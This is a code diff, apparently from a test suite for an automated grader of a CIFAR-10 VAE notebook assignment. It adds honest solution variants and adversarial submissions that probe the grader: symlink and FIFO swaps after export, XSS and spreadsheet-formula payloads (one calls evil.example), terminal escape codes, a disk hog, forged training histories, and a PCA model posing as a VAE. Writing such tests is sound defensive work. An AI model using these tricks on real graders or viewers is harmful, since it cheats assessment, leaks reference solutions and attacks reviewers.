@@ -136,6 +136,88 @@ vae = LectureVAE(encoder, decoder)
 vae.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE))
 '''
 
+#: Данные, как в лекции: «Загрузите из keras.datasets набор данных CIFAR10».
+KERAS_DATASETS = """
+(x_all_train, y_all_train), (x_all_test, y_all_test) = keras.datasets.cifar10.load_data()
+keep_train = np.isin(y_all_train.reshape(-1), classes)
+keep_test = np.isin(y_all_test.reshape(-1), classes)
+x_train = x_all_train[keep_train].astype("float32") / 255.0
+y_train = y_all_train.reshape(-1)[keep_train]
+x_test = x_all_test[keep_test].astype("float32") / 255.0
+y_test = y_all_test.reshape(-1)[keep_test]
+"""
+
+#: Как у Шолле (пример VAE Keras 3): train_step на keras.ops, потери под именем «elbo»,
+#: выборка только при обучении (training=False даёт z = z_mean).
+CHOLLET_MODEL = """
+LATENT_DIM = 32
+
+
+class TrainingOnlySampling(layers.Layer):
+    def __init__(self, **kwargs):
+        super().__init__(**kwargs)
+        self.seed_generator = keras.random.SeedGenerator(1337)
+
+    def call(self, inputs, training=None):
+        z_mean, z_log_var = inputs
+        if not training:
+            return z_mean
+        eps = keras.random.normal(keras.ops.shape(z_mean), seed=self.seed_generator)
+        return z_mean + keras.ops.exp(0.5 * z_log_var) * eps
+
+
+class CholletVAE(keras.Model):
+    def __init__(self, encoder, decoder, **kwargs):
+        super().__init__(**kwargs)
+        self.encoder, self.decoder = encoder, decoder
+        self.elbo_tracker = keras.metrics.Mean(name="elbo")
+        self.kl_tracker = keras.metrics.Mean(name="kl_loss")
+
+    @property
+    def metrics(self):
+        return [self.elbo_tracker, self.kl_tracker]
+
+    def call(self, inputs):
+        return self.decoder(self.encoder(inputs)[0])
+
+    def train_step(self, data):
+        import tensorflow as tf
+
+        with tf.GradientTape() as tape:
+            z_mean, z_log_var, z = self.encoder(data, training=True)
+            reconstruction = self.decoder(z, training=True)
+            reconstruction_loss = keras.ops.mean(
+                keras.ops.sum(keras.losses.binary_crossentropy(data, reconstruction), axis=(1, 2))
+            )
+            kl = -0.5 * (1 + z_log_var - keras.ops.square(z_mean) - keras.ops.exp(z_log_var))
+            kl_loss = keras.ops.mean(keras.ops.sum(kl, axis=1))
+            elbo = reconstruction_loss + kl_loss
+        grads = tape.gradient(elbo, self.trainable_weights)
+        self.optimizer.apply_gradients(zip(grads, self.trainable_weights))
+        self.elbo_tracker.update_state(elbo)
+        self.kl_tracker.update_state(kl_loss)
+        return {m.name: m.result() for m in self.metrics}
+
+
+encoder_input = keras.Input(shape=(32, 32, 3))
+x = layers.Conv2D(32, 3, strides=2, padding="same", activation="relu")(encoder_input)
+x = layers.Conv2D(64, 3, strides=2, padding="same", activation="relu")(x)
+x = layers.Dense(128, activation="relu")(layers.Flatten()(x))
+z_mean = layers.Dense(LATENT_DIM)(x)
+z_log_var = layers.Dense(LATENT_DIM)(x)
+encoder = keras.Model(encoder_input, [z_mean, z_log_var, TrainingOnlySampling()([z_mean, z_log_var])])
+
+decoder_input = keras.Input(shape=(LATENT_DIM,))
+x = layers.Dense(8 * 8 * 64, activation="relu")(decoder_input)
+x = layers.Reshape((8, 8, 64))(x)
+x = layers.Conv2DTranspose(64, 3, strides=2, padding="same", activation="relu")(x)
+x = layers.Conv2DTranspose(32, 3, strides=2, padding="same", activation="relu")(x)
+decoder = keras.Model(decoder_input, layers.Conv2D(3, 3, padding="same", activation="sigmoid")(x))
+
+vae = CholletVAE(encoder, decoder)
+vae.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE))
+"""
+
 CHECKPOINT_TRAINING = """
 checkpoint = Path(tempfile.mkdtemp()) / "best.keras"
 history = vae.fit(
@@ -171,7 +253,10 @@ vae.compile(optimizer=keras.optimizers.Adam(learning_rate=LEARNING_RATE))
 
 def gallery() -> dict[str, nbformat.NotebookNode]:
     """Честные решения в разных стилях: все должны получить полный балл."""
+    # Как учит лекция: данные из keras.datasets, свой VAE с трекером total_loss.
     lecture = _replace(reference(), "model_solution", LECTURE_MODEL)
+    _replace(lecture, "data_solution", KERAS_DATASETS)
+    chollet = _replace(reference(), "model_solution", CHOLLET_MODEL)
     checkpoint = _replace(reference(), "train_solution", CHECKPOINT_TRAINING)
     dense = _replace(reference(), "model_solution", DENSE_MODEL)
     return {
@@ -179,6 +264,7 @@ def gallery() -> dict[str, nbformat.NotebookNode]:
         "lecture_style": lecture,
         "best_checkpoint": checkpoint,
         "dense_vae": dense,
+        "chollet_style": chollet,
     }
 
 
@@ -359,6 +445,97 @@ vae.compile(optimizer=keras.optimizers.Adam(LEARNING_RATE), loss="mse")
 """
 
 
+#: После выноса (перехватчик post_run_cell срабатывает и после ячейки выноса) заменяет
+#: выполненный ноутбук ссылкой на ноутбук преподавателя: проверяющий, пошедший по ссылке,
+#: вставил бы в отзыв эталонное решение.
+AFTER_EXPORT = """
+import os, pathlib
+
+_out = pathlib.Path("/tmp/submission/export")
+
+
+def _after_export(result):
+    target = _out / "executed.ipynb"
+    if (_out / "report.json").is_file() and not target.is_symlink() and not target.is_fifo():
+        target.unlink(missing_ok=True)
+        {replace}
+
+
+get_ipython().events.register("post_run_cell", _after_export)
+"""
+
+#: Строки, которые достаются людям: формула для таблиц, управляющие символы терминала
+#: (перерисовать свою строку сводки как «10/10»), скрипты в отзыве.
+HOSTILE_STRINGS = """
+from IPython.display import HTML, display
+
+STUDENT_ID = '=HYPERLINK("http://evil.example/"&A2,"10/10")\x1b[2K\r10/10 graded\u202e'
+classes = [1, 3, 5, 9]
+display(HTML("<img src=x onerror=\\"document.title='PW'+'NED'\\"><script>alert(1)</script>"))
+raise ValueError("\x1b[2J=cmd|' /C calc'!A0")
+"""
+
+#: Огромный вывод: отзыв и выполненный ноутбук его урезают.
+HUGE_OUTPUT = "print('x' * 30_000_000)"
+
+#: Диск: файлы по 64 МБ в папке работы, пока не остановят (предел — на всю папку).
+DISK_HOG = """
+import os
+os.makedirs("fill", exist_ok=True)
+block = os.urandom(1 << 20) * 16
+for i in range(200):
+    with open(f"fill/{i}.bin", "wb") as f:
+        for _ in range(4):
+            f.write(block)
+"""
+
+#: Необученная модель и выдуманная история; после выноса перехватчик подменяет ответы
+#: модели на вопросы проверяющего самими изображениями-вопросами («идеальные» реконструкции).
+FORGED_HISTORY = """
+import pathlib, types
+
+history = types.SimpleNamespace(history={"loss": [900.0, 400.0], "kl_loss": [20.0, 30.0]})
+_out = pathlib.Path("/tmp/submission/export")
+
+
+def _forge(result):
+    if (_out / "report.json").is_file() and not (_out / "forged").exists():
+        np.save(_out / "reconstructions.npy", np.load("/tmp/submission/queries.npz")["heldout"])
+        (_out / "forged").write_text("1")
+
+
+get_ipython().events.register("post_run_cell", _forge)
+"""
+
+#: Не VAE: PCA на numpy в обёртках с нужными сигнатурами и история без обучения.
+STAND_IN = """
+import types
+
+LATENT_DIM = 32
+_flat = x_train.reshape(len(x_train), -1)
+_mean = _flat.mean(axis=0)
+_components = np.linalg.svd(_flat[:500] - _mean, full_matrices=False)[2][:LATENT_DIM]
+
+
+def _encoder(images, training=False):
+    z = (np.asarray(images).reshape(len(images), -1) - _mean) @ _components.T
+    return [z, np.full_like(z, -2.0), z + np.exp(-1.0) * np.random.normal(size=z.shape)]
+
+
+def _decoder(z, training=False):
+    return np.clip(np.asarray(z) @ _components + _mean, 0, 1).reshape(-1, 32, 32, 3)
+
+
+vae = types.SimpleNamespace(encoder=_encoder, decoder=_decoder)
+history = types.SimpleNamespace(history={"loss": [2.0, 1.0]})
+"""
+
+STAND_IN_MORPH = """
+alphas = np.linspace(0.0, 1.0, 10, dtype="float32")
+_z = vae.encoder(np.stack([image_a, image_b]))[0]
+morph_frames = vae.decoder(_z[0][None] * (1 - alphas[:, None]) + _z[1][None] * alphas[:, None])
+"""
+
 #: Рисунок без Keras (ячейка после зависшей: выполнение продолжается).
 FIGURE = """
 import matplotlib.pyplot as plt
@@ -432,6 +609,36 @@ def attacks(course: Path) -> dict[str, nbformat.NotebookNode]:
     }
     duplicated.cells.append(extra)
 
+    classes = (
+        "from course_utils.assignment import classes_from_student_id\n"
+        + _cell(reference(), "classes_solution").source
+    )
+    source = course / "source" / "cifar10_vae" / "cifar10_vae.ipynb"
+    symlink = _only(
+        classes, AFTER_EXPORT.replace("{replace}", f"target.symlink_to({str(source)!r})")
+    )
+    fifo = _only(classes, AFTER_EXPORT.replace("{replace}", "os.mkfifo(target)"))
+    hostile = _only(HOSTILE_STRINGS)
+    hostile.cells.insert(0, nbformat.v4.new_markdown_cell("<script>alert(1)</script>"))
+    many_cells = _only(*(["pass"] * 100_000))
+
+    forged = _replace(reference(), "train_solution", FORGED_HISTORY)
+    forged.cells = [
+        c
+        for c in forged.cells
+        if c.get("id") not in ("test_training", "test_reconstruction", "test_morph", "loss_plot")
+        and "reconstructions = " not in c.source
+    ]
+    stand_in = _replace(reference(), "model_solution", STAND_IN)
+    _replace(stand_in, "morph_solution", STAND_IN_MORPH)
+    stand_in.cells = [
+        c
+        for c in stand_in.cells
+        if c.metadata.get("nbgrader", {}).get("grade") is not True
+        and c.get("id") not in ("model_params", "train_solution", "loss_plot")
+        and "reconstructions = " not in c.source
+    ]
+
     cross_fade = _replace(reference(), "morph_solution", CROSS_FADE)
     plain = _train_as_autoencoder(_replace(reference(), "model_solution", PLAIN_AUTOENCODER))
 
@@ -446,6 +653,14 @@ def attacks(course: Path) -> dict[str, nbformat.NotebookNode]:
         "kernel_death": died,
         "network": network,
         "duplicated_grade_cells": duplicated,
+        "symlink_after_export": symlink,
+        "fifo_after_export": fifo,
+        "hostile_strings": hostile,
+        "huge_output": _only(classes, HUGE_OUTPUT),
+        "disk_hog": _only(DISK_HOG),
+        "many_cells": many_cells,
+        "forged_history": forged,
+        "stand_in": stand_in,
         "cross_fade": cross_fade,
         "plain_autoencoder": plain,
     }
